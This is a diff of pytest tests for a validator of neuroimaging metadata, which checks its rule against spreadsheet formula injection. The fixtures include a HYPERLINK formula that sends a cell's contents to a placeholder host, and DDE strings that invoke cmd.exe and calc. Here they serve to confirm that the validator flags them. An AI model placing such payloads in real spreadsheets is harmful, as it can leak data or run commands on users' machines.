@@ -63,9 +63,11 @@ def mask_inter_nan(root, ids):
 
 # -- META015: cells a spreadsheet could evaluate ------------------------------------------------------
 
+
 def _notes(value):
     def breaker(root, ids):
         edit(root, lambda f: set_cell(f, "scans", ids.single, "Notes", value))
+
     return breaker
 
 
@@ -88,11 +90,11 @@ def live_formula_cell(root, ids):
     header = [c.value for c in ws[1]]
     col = header.index("Notes") + 1
     row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, header.index(md.SCAN_ID) + 1).value == ids.single)
-    ws.cell(row, col).value = "=HYPERLINK(\"http://x.invalid/?\"&A2,\"ok\")"
+    ws.cell(row, col).value = '=HYPERLINK("http://x.invalid/?"&A2,"ok")'
     assert ws.cell(row, col).data_type == "f"
     wb.save(p)
     frames = md.read_metadata(root, source="csv")
-    set_cell(frames, "scans", ids.single, "Notes", "=HYPERLINK(\"http://x.invalid/?\"&A2,\"ok\")")
+    set_cell(frames, "scans", ids.single, "Notes", '=HYPERLINK("http://x.invalid/?"&A2,"ok")')
     (root / "ATLAS_scans.csv").write_bytes(md.csv_bytes(frames["scans"]))
 
 
@@ -168,25 +170,46 @@ def test_numbers_in_numeric_columns_are_not_formulas(validate_native, capsys):
 def test_registration_failure_reason_formula(validate_standard, capsys):
     f = validate_standard / "registration_failures.csv"
     df = pd.read_csv(f, dtype=str)
-    df.loc[0, "Reason"] = "=HYPERLINK(\"http://x.invalid\")"
+    df.loc[0, "Reason"] = '=HYPERLINK("http://x.invalid")'
     f.write_bytes(md.csv_bytes(df))
     status, report = run(validate_standard, capsys)
     assert "META015" in codes(report) and status == 1
 
 
-@pytest.mark.parametrize("text, why", [
-    ("=1", "starts with '='"), ("+1", "starts with '+'"), ("-1", "starts with '-'"), ("@A1", "starts with '@'"),
-    ("\tx", "starts with a tab"), ("\rx", "starts with a carriage return"),
-    ("\u00a0\u200b=1", "starts with '=' after leading white space"), ("\ufe661", "starts with '\ufe66'"),
-    ("\u22121", "starts with '\u2212'"), ("\uff0d1", "starts with '\uff0d'"),
-    ("x msexcel|'\\..\\cmd.exe'!''", "holds a DDE reference (application|topic!item)"),
-])
+@pytest.mark.parametrize(
+    "text, why",
+    [
+        ("=1", "starts with '='"),
+        ("+1", "starts with '+'"),
+        ("-1", "starts with '-'"),
+        ("@A1", "starts with '@'"),
+        ("\tx", "starts with a tab"),
+        ("\rx", "starts with a carriage return"),
+        ("\u00a0\u200b=1", "starts with '=' after leading white space"),
+        ("\ufe661", "starts with '\ufe66'"),
+        ("\u22121", "starts with '\u2212'"),
+        ("\uff0d1", "starts with '\uff0d'"),
+        ("x msexcel|'\\..\\cmd.exe'!''", "holds a DDE reference (application|topic!item)"),
+    ],
+)
 def test_triggers(text, why):
     assert formulas.trigger(text) == why
 
 
-@pytest.mark.parametrize("text", ["", "Motion artefact.", "Left basal ganglia", "T1|T2 bright!", "a-b", "MCA",
-                                  "3", "e=mc2", "Timepoint 2 of subject s0004."])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "Motion artefact.",
+        "Left basal ganglia",
+        "T1|T2 bright!",
+        "a-b",
+        "MCA",
+        "3",
+        "e=mc2",
+        "Timepoint 2 of subject s0004.",
+    ],
+)
 def test_no_trigger(text):
     assert formulas.trigger(text) is None
 
@@ -200,6 +223,7 @@ def test_numeric_cells():
 
 
 # -- every exporter writes text as text -----------------------------------------------------------
+
 
 def test_workbook_writes_text_as_inline_strings_never_formulas():
     values = ["=cmd|' /C calc'!A0", "@SUM(1)", "-1+2", "#N/A", "\uff1d1"]
@@ -266,6 +290,7 @@ def test_ingest_refuses_with_nothing_written(name, registry, validate_native, ca
 
 # -- sidecars: allow-list, size and depth ---------------------------------------------------------------
 
+
 def _sidecar(root, ids, data: bytes) -> None:
     (path(root, ids.single).parent / f"{ids.single}.json").write_bytes(data)
 
@@ -292,21 +317,25 @@ def sidecar_nested_value(root, ids):
 
 def lesion_rows_without_scan(root, ids):
     """Lesion rows for c0099s0001t01: no scans row, no folder (it validated with 0 errors)."""
+
     def add(f):
         les = f["lesions"]
         row = les[les[md.SCAN_ID] == ids.single].iloc[[0]].copy()
         row[md.SCAN_ID] = "c0099s0001t01"
         f["lesions"] = pd.concat([les, row], ignore_index=True)
+
     edit(root, add)
 
 
 def lesion_rows_scan_in_other_cohort_folder_missing(root, ids):
     """A lesion row for a scan of a cohort that has folders, but not this scan's."""
+
     def add(f):
         les = f["lesions"]
         row = les[les[md.SCAN_ID] == ids.single].iloc[[0]].copy()
         row[md.SCAN_ID] = ids.single[:5] + "s0999t01"
         f["lesions"] = pd.concat([les, row], ignore_index=True)
+
     edit(root, add)
 
 
@@ -345,6 +374,7 @@ def too_many_rows(root, ids):
     def grow(f):
         sc = f["scanners"]
         f["scanners"] = pd.concat([sc] * (md.MAX_ROWS // len(sc) + 1), ignore_index=True)
+
     frames = md.read_metadata(root)
     grow(frames)
     (root / naming.METADATA_WORKBOOK).unlink()
@@ -408,9 +438,21 @@ def test_cohort_folder_checks_the_rows_of_its_cohort(validate_native, capsys):
 
 def test_sidecar_on_the_allow_list_validates(validate_native, capsys):
     ids = ids_of(validate_native)
-    _sidecar(validate_native, ids, json.dumps({
-        "MagneticFieldStrength": 3, "Manufacturer": "Siemens", "EchoTime": 0.0029, "RepetitionTime": 2.3,
-        "SliceTiming": [0.0, 0.5, 1.0], "ImageType": ["ORIGINAL", "PRIMARY"], "MRAcquisitionType": "3D"}).encode())
+    _sidecar(
+        validate_native,
+        ids,
+        json.dumps(
+            {
+                "MagneticFieldStrength": 3,
+                "Manufacturer": "Siemens",
+                "EchoTime": 0.0029,
+                "RepetitionTime": 2.3,
+                "SliceTiming": [0.0, 0.5, 1.0],
+                "ImageType": ["ORIGINAL", "PRIMARY"],
+                "MRAcquisitionType": "3D",
+            }
+        ).encode(),
+    )
     status, report = run(validate_native, capsys)
     assert (status, report["summary"]["errors"]) == (0, 0), report["findings"]
 
@@ -425,6 +467,7 @@ def test_sidecar_depth_is_measured_on_the_raw_bytes():
 
 
 # -- revise: corrections are refused with the rule code, nothing written ------------------------------------
+
 
 @pytest.mark.parametrize("backend", ["sqlite"])
 def test_revise_refuses_formulas_and_control_characters(ingested_two):
